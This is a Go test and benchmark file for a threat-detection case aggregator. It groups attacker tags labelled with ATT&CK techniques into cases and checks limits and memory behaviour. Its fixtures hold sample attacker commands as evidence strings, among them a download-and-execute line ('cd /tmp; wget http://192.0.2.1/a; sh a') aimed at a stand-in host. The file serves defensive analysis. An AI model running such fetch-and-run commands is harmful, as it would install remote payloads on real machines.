package cases

import (
	"fmt"
	"strings"
	"testing"
	"time"
	"unsafe"

	"github.com/google/go-cmp/cmp"

	"ttpctl/internal/event"
)

func tag(at, address, session, technique, rule, evidence string) event.Tag {
	return event.Tag{
		AttackerIP: address, AttackerUUID: "of " + address, SessionID: event.Some(session), Tactic: "TA0011", Technique: technique,
		Confidence: 0.5, RuleID: rule, Evidence: []byte(evidence), ObservedAt: at,
	}
}

func TestAdd(t *testing.T) {
	s := New(DefaultLimits())
	const fetch = `{"command_text":"wget http://192.0.2.1/a; wget http://b.example/c"}`
	second := tag("2026-09-14T01:00:09Z", "203.0.113.9", "s1", "T1105", "R2", fetch)
	second.Confidence, second.Tactic = 0.9, "TA0002"
	s.Add([]event.Tag{
		tag("2026-09-14T01:00:05+01:00", "203.0.113.9", "s1", "T1105", "R1", fetch), second,
		tag("nonsense", "203.0.113.9", "s2", "T1082", "R3", `{"command_text":"uname"}`),
	})
	first, last := time.Date(2026, 9, 14, 0, 0, 5, 0, time.UTC), time.Date(2026, 9, 14, 1, 0, 9, 0, time.UTC)
	if len(s.Cases()) != 2 || len(s.Traces()) != 4 || s.Tags() != 3 || s.Folded() != 0 || s.Span() != (Span{first, last}) {
		t.Fatalf("%d cases, %d traces, %d tags, %d folded, %v", len(s.Cases()), len(s.Traces()), s.Tags(), s.Folded(), s.Span())
	}
	want := &Sighting{Technique: "T1105", Tactics: []string{"TA0011", "TA0002"}, Confidence: 0.9, Span: Span{first, last}, Tags: 2, Rules: []string{"R1", "R2"}}
	c := s.Cases()[0]
	if diff := cmp.Diff([]*Sighting{want}, c.Sightings); diff != "" {
		t.Errorf("sightings (-want +got):\n%s", diff)
	}
	if c.Session != "s1" || c.Tags != 2 || len(c.Traces) != 3 {
		t.Errorf("case %+v", c)
	}
	if c := s.Cases()[1]; !c.Span.First.IsZero() || c.Tags != 1 || len(c.Traces) != 1 {
		t.Errorf("case %+v of a tag at no known time", c)
	}
}

// Every tag is counted, whatever the limits; what is remembered is not.
func TestLimits(t *testing.T) {
	const n = 5000
	l := Limits{Cases: 20, Sightings: 60, Traces: 10, PerCase: 2}
	s := New(l)
	for i := range n {
		s.Add([]event.Tag{tag("2026-09-14T01:00:05Z", fmt.Sprintf("203.0.113.%d", i%40), fmt.Sprint(i%900), fmt.Sprintf("T%04d", i%7), "R1", fmt.Sprintf(`{"command_text":"id %d"}`, i))})
	}
	total, sightings := 0, 0
	for _, c := range s.Cases() {
		for _, x := range c.Sightings {
			total += x.Tags
			sightings++
		}
		if len(c.Traces) > l.PerCase || len(c.Sightings) == 0 {
			t.Errorf("case %+v", c)
		}
	}
	if total != n || s.Tags() != n || len(s.Cases()) > 3*l.Cases/2+1 || sightings > l.Sightings+7 || len(s.Traces()) != l.Traces || s.Folded() == 0 {
		t.Errorf("%d tags in %d cases, %d sightings, %d traces; %d folded", total, len(s.Cases()), sightings, len(s.Traces()), s.Folded())
	}
}

// Nothing of a tag is kept: its texts lie in a batch that is used again.
func TestKeepsNothing(t *testing.T) {
	buf := []byte("203.0.113.9 session T1105 R0001 " + `{"command_text":"uname -a"}`)
	s := New(DefaultLimits())
	x := event.Tag{
		AttackerUUID: alias(buf[0:11]), SessionID: event.Some(alias(buf[12:19])), Technique: alias(buf[20:25]), RuleID: alias(buf[26:31]), Evidence: buf[32:],
	}
	s.Add([]event.Tag{x})
	for i := range buf {
		buf[i] = 'x'
	}
	c := s.Cases()[0]
	if got := fmt.Sprint(c.Attacker, c.Session, c.Sightings[0].Technique, c.Sightings[0].Rules, c.Traces[0].Command); strings.Contains(got, "xx") {
		t.Errorf("a case is of %s after the batch was used again", got)
	}
}

// alias returns a string that changes with b.
func alias(b []byte) string { return unsafe.String(&b[0], len(b)) }

func BenchmarkAdd(b *testing.B) {
	s := New(DefaultLimits())
	tags := make([]event.Tag, 1000)
	for i := range tags {
		tags[i] = tag("2026-09-14T01:00:05Z", fmt.Sprintf("203.0.113.%d", i%250), fmt.Sprint(i/4), fmt.Sprintf("T%04d", i%20), "R1", `{"command_text":"cd /tmp; wget http://192.0.2.1/a; sh a","matched":"wget"}`)
	}
	b.ReportAllocs()
	for b.Loop() {
		s.Add(tags)
	}
}
